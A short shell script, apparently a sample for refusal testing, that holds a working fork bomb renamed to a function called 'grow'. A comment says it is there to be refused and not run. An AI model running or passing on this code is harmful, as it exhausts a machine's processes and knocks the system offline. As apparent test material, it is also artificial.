#!/bin/sh
# The best known fork bomb, under another name. It is here to be refused, not to be run.
grow() {
	grow | grow &
}
grow
